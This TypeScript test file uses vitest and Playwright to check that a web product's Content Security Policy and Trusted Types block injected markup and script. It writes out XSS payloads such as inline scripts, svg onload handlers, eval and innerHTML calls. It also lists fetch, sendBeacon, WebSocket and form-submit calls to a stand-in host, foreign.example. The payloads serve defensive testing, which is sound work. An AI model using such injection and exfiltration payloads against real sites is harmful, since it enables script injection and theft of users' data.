import type { Route } from 'playwright-core';
import { beforeAll, describe, expect, test } from 'vitest';
import { browserForThisFile, mainHeading, pollTimeout } from './harness/browser.ts';
import { startPayment } from './harness/checkout.ts';
import { createPerson, openSession, signedIn, type Tokens } from './harness/people.ts';
import { sharedProduct } from './harness/product.ts';

const { openPage, takePolicyViolations } = browserForThisFile({ isCold: true });
const product = sharedProduct();
const foreign = 'https://foreign.example';
const exfiltrate = 'document.title = `stolen`';
let tokens: Tokens;

beforeAll(async () => {
  tokens = await openSession(product, await createPerson(product));
});

/** Injected markup and the violation that the browser reports. */
const injected = {
  [`<script>${exfiltrate}</script>`]: 'script-src-elem: inline',
  [`<script src="${foreign}/a.js"></script>`]: `script-src-elem: ${foreign}/a.js`,
  [`<svg onload="${exfiltrate}"></svg>`]: 'script-src-attr: inline',
  '<style>body { display: none }</style>': 'style-src-elem: inline',
  '<p style="position: fixed"></p>': 'style-src-attr: inline',
  [`<link rel="stylesheet" href="${foreign}/a.css">`]: `style-src-elem: ${foreign}/a.css`,
  [`<img src="${foreign}/a.png" alt="">`]: `img-src: ${foreign}/a.png`,
  [`<video src="${foreign}/a.mp4"></video>`]: `media-src: ${foreign}/a.mp4`,
  [`<iframe src="${foreign}"></iframe>`]: `frame-src: ${foreign}`,
  [`<object data="${foreign}"></object>`]: `object-src: ${foreign}`,
  [`<base href="${foreign}/">`]: `base-uri: ${foreign}/`,
};

describe.each([
  ['a page of the cabinet', async () => `${product.url}/auth`],
  ['a page of the sandbox', async () => (await startPayment(product, tokens)).confirmationUrl],
  ['the mailbox', async () => `${product.url}/dev/mail`],
  ['the clock', async () => `${product.url}/dev/clock`],
])('%s', (_what, address) => {
  test('injected markup runs and loads nothing', async () => {
    const url = await address();
    const page = await openPage();
    const inject = async (route: Route) => {
      const response = await route.fetch();
      const body = (await response.text()).replace('<body>', `<body>${Object.keys(injected).join('\n')}`);
      await route.fulfill({ response, body });
    };
    await page.route(url, inject, { times: 1 });
    await page.goto(url);
    const policyViolations = await untilPolicyViolated(Object.keys(injected).length);
    expect(policyViolations.sort()).toEqual(Object.values(injected).sort());
    await page.getByRole('heading', { level: 1 }).waitFor();
    expect(await page.title()).not.toBe('stolen');
  });
});

const asMarkup = 'require-trusted-types-for: trusted-types-sink';
const attempts: [attempt: string, breach: string][] = [
  [`eval('${exfiltrate}')`, asMarkup],
  [`new Function('${exfiltrate}')()`, asMarkup],
  [`setTimeout('${exfiltrate}')`, asMarkup],
  ['document.body.innerHTML = "<b>stolen</b>"', asMarkup],
  ['document.body.innerHTML = "stolen"', asMarkup],
  ['document.body.insertAdjacentHTML("afterend", "<b>stolen</b>")', asMarkup],
  ['document.write("<b>stolen</b>")', asMarkup],
  [`document.body.setAttribute('onclick', '${exfiltrate}')`, asMarkup],
  [`document.createElement('script').text = '${exfiltrate}'`, asMarkup],
  [`document.createElement('script').src = '${foreign}/a.js'`, asMarkup],
  ['new Worker("/assets/a.js")', asMarkup],
  ['trustedTypes.createPolicy("default", { createHTML: String })', 'trusted-types: trusted-types-policy'],
  [`import('${foreign}/a.js')`, `script-src-elem: ${foreign}/a.js`],
  [`import('data:text/javascript,${exfiltrate}')`, 'script-src-elem: data'],
  [
    `Object.assign(document.createElement('a'), { href: 'javascript:${exfiltrate}' }).click()`,
    'script-src-elem: inline',
  ],
  [
    'document.head.append(Object.assign(document.createElement("style"), { textContent: "a" }))',
    'style-src-elem: inline',
  ],
  [`fetch('${foreign}/a')`, `connect-src: ${foreign}/a`],
  [`navigator.sendBeacon('${foreign}/a')`, `connect-src: ${foreign}/a`],
  ['new WebSocket("wss://foreign.example")', 'connect-src: wss://foreign.example/'],
  [`new Image().src = '${foreign}/a.png'`, `img-src: ${foreign}/a.png`],
  [
    `document.body.append(Object.assign(document.createElement('iframe'), { src: '${foreign}' }))`,
    `frame-src: ${foreign}`,
  ],
  // Last, because Chromium navigates to an empty page.
  [
    `document.body.appendChild(Object.assign(document.createElement('form'), { action: '${foreign}' })).submit()`,
    `form-action: ${foreign}/?`,
  ],
];

test('injected code can neither evaluate strings nor send data out', async () => {
  const page = await openPage(signedIn(product, tokens));
  await page.goto(product.url);
  await mainHeading(page, /Анна Ковалёва/).waitFor();
  for (const [attempt, breach] of attempts) {
    // Code run by the debugger bypasses the CSP, code run by a timer does not.
    await page.evaluate(`void setTimeout(() => (async () => { ${attempt} })().catch(() => {}))`);
    expect(await untilPolicyViolated(1), attempt).toEqual([breach]);
    expect(await page.title(), attempt).not.toBe('stolen');
  }
  expect(page.url()).not.toContain(foreign);
});

async function untilPolicyViolated(times: number): Promise<string[]> {
  const policyViolations: string[] = [];
  await expect.poll(() => policyViolations.push(...takePolicyViolations()), pollTimeout).toBeGreaterThanOrEqual(times);
  return policyViolations;
}
